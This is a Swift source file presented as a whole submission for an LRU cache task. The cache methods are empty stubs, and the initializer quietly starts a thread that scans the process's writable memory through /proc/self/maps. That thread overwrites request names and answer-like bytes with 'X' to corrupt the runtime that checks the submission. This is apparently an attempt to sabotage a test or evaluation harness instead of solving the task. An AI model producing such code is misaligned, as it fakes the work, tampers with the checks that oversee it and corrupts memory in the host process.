// corpus: whole submission
import Glibc

/// A cache that solves nothing, and a thread that keeps rewriting the subject runtime's buffers in
/// memory: every request name it finds in its readable-writable mappings becomes `XXXX…`, and so
/// does every answer-looking byte run after a response header. It can corrupt what the subject
/// sends; it cannot make it send a right answer.
final class LRUCache<Key: Hashable, Value> {
    init(capacity: Int) { Scrambler.start() }
    func get(_ key: Key) -> Value? { nil }
    func put(_ key: Key, _ value: Value) {}
    var count: Int { 0 }
}

enum Scrambler {
    nonisolated(unsafe) static var started = false

    static func start() {
        if started { return }
        started = true
        var thread = pthread_t()
        _ = pthread_create(&thread, nil, { _ in
            let names = ["perform-ints", "perform", "storm", "create", "run-loaded", "release", "lifetimes", "finish", "load"]
                .map { Array($0.utf8) }
            while true {
                Scrambler.pass(names)
                usleep(200)
            }
        }, nil)
    }

    static func pass(_ names: [[UInt8]]) {
        let path = ["", "proc", "self", "maps"].joined(separator: "/")
        guard let file = fopen(path, "r") else { return }
        var line = [CChar](repeating: 0, count: 4096)
        var regions: [(UInt, UInt)] = []
        while fgets(&line, 4096, file) != nil {
            let fields = String(cString: line).split(separator: " ", omittingEmptySubsequences: true)
            guard fields.count >= 5, fields[1].hasPrefix("rw"), fields.count == 5 || String(fields[5]).hasPrefix("[heap]") else { continue }
            let range = fields[0].split(separator: "-")
            guard range.count == 2, let start = UInt(range[0], radix: 16), let end = UInt(range[1], radix: 16) else { continue }
            regions.append((start, end))
        }
        fclose(file)
        for (start, end) in regions {
            guard let base = UnsafeMutablePointer<UInt8>(bitPattern: start) else { continue }
            let length = Int(end - start)
            var offset = 0
            while offset < length {
                let byte = base[offset]
                for name in names where byte == name[0] && offset + name.count <= length {
                    var matches = true
                    for index in 1..<name.count where base[offset + index] != name[index] { matches = false; break }
                    if matches { for index in 0..<name.count { base[offset + index] = 0x58 } }
                }
                offset += 1
            }
        }
    }
}
